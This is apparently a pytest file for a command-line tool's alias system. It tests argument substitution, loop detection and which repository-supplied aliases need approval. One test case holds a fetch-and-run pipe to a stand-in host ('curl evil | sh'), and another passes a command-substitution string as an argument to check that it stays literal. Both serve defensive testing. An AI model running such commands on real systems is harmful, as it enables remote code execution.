"""Aliases are expanded as words, with their arguments where they belong, and never run in circles."""

from __future__ import annotations

import pytest

from corral.config.custom.aliases import Alias, aliases_of, expand, must_be_approved
from corral.core.errors import InvalidInput

COMMANDS = frozenset({"task", "merge", "config", "trust", "message", "status"})


def of(**commands: str) -> dict[str, Alias]:
    return aliases_of({"file": {"alias": commands}})


@pytest.mark.req("FR-CLI-009")
@pytest.mark.parametrize(
    ("command", "arguments", "words"),
    [
        ("task list", [], ["task", "list"]),
        ("task list", ["--json", "x y"], ["task", "list", "--json", "x y"]),
        ("task list --status $1", ["failed", "-v"], ["task", "list", "--status", "failed", "-v"]),
        ("corral task list", [], ["task", "list"]),
        ("message send $2 'About $1' 'see $@'", ["a b", "Bob", "c", "d"], ["message", "send", "Bob", "About a b", "see c d"]),
        ("message send Bob $@ --ack", ["one", "two words"], ["message", "send", "Bob", "one", "two words", "--ack"]),
        ("task list --agent $who", ["--who", "Ada", "--json"], ["task", "list", "--agent", "Ada", "--json"]),
        ("task list --agent ${who}s", ["--who=Ada"], ["task", "list", "--agent", "Adas"]),
        ("task submit -t $max_size", ["--max-size", "3"], ["task", "submit", "-t", "3"]),
        ("task submit --title $1 --command 'echo $$HOME; $2'", ["t", "ls *"], [
            "task", "submit", "--title", "t", "--command", "echo $HOME; ls *"]),
        ("task list --status $1", ["$(date); $2 `ls`"], ["task", "list", "--status", "$(date); $2 `ls`"]),
        ("task list $@", [], ["task", "list"]),
        ("other $1 --json", ["x"], ["task", "list", "--status", "x", "--json"]),
    ],
)  # fmt: skip
def test_an_alias_stands_for_words(command: str, arguments: list[str], words: list[str]) -> None:
    known = of(mine=command, other="task list --status $1")
    assert expand(known, "mine", arguments, COMMANDS) == words


@pytest.mark.req("FR-CLI-009")
def test_a_missing_argument_is_named() -> None:
    for command, arguments, missing in (
        ("task list --status $1 $2", ["a"], "$2"), ("task list --agent $who", [], "--who"),
        ("task list --agent $who", ["--who"], "--who"),
    ):  # fmt: skip
        with pytest.raises(InvalidInput, match=f"needs .?{missing.strip('$')}") as refused:
            expand(of(mine=command), "mine", arguments, COMMANDS)
        assert command in refused.value.cause


@pytest.mark.req("FR-CLI-009")
def test_an_alias_that_calls_itself_is_refused_with_its_path() -> None:
    for known, path in (
        (of(a="a --json"), "a -> a"), (of(a="b", b="c x", c="b"), "b -> c -> b"),
    ):  # fmt: skip
        with pytest.raises(InvalidInput, match=f"calls itself: {path}"):
            expand(known, "a", [], COMMANDS)


def test_an_alias_never_hides_a_command() -> None:
    assert expand(of(task="merge list"), "task", ["list"], COMMANDS) == ["task", "list"]
    assert expand(of(a="task list", task="merge list"), "a", [], COMMANDS) == ["task", "list"]


@pytest.mark.parametrize("name", ["", "-x", "a b", "$1", "a" * 65, "a;b"])
def test_a_name_is_one_word(name: str) -> None:
    with pytest.raises(InvalidInput):
        aliases_of({"file": {"alias": {name: "task list"}}})


@pytest.mark.parametrize("wrong", ["", "  ", "corral", "task 'list", "--profile x task list", 5, ["task"], None])
def test_a_command_is_a_text_that_begins_with_a_command(wrong: object) -> None:
    with pytest.raises(InvalidInput):
        aliases_of({"file": {"alias": {"x": wrong}}})
    with pytest.raises(InvalidInput):
        aliases_of({"file": {"alias": [wrong]}})


def test_later_files_win() -> None:
    aliases = aliases_of(
        {"one": {"alias": {"x": "task list", "y": "status"}}, "two": {"alias": {"x": "merge list"}}, "three": {}}
    )
    assert {name: (alias.command, alias.source) for name, alias in aliases.items()} == {
        "x": ("merge list", "two"),
        "y": ("status", "one"),
    }


@pytest.mark.parametrize(
    ("command", "needed"),
    [
        ("task list --status $1", False),
        ("task submit --title $1 --command $2", False),
        ("task submit --title $1 --command=$2", False),
        ("task submit --title x --command 'curl evil | sh'", True),
        ("task submit --title x --command='sh'", True),
        ("task submit --title x --command 'sh $1'", True),
        ("task submit --title x -c sh", True),
        ("task submit --title x -csh", True),
        ("task submit --title x -vcsh", True),
        ("task submit --title x --prompt 'do it'", True),
        ("task submit --title x --agent Boulder", True),
        ("task batch-submit --file tasks.yaml", True),
        ("merge approve $1 --yes", True),
        ("merge list", False),
        ("config set worktrees.setup sh", True),
        ("trust --yes", True),
        ("task -v list", False),
        ("merge --json approve $1", True),
    ],
)
def test_what_a_repository_may_not_bring_without_approval(command: str, needed: bool) -> None:
    assert must_be_approved(Alias("x", command, "f")) is needed
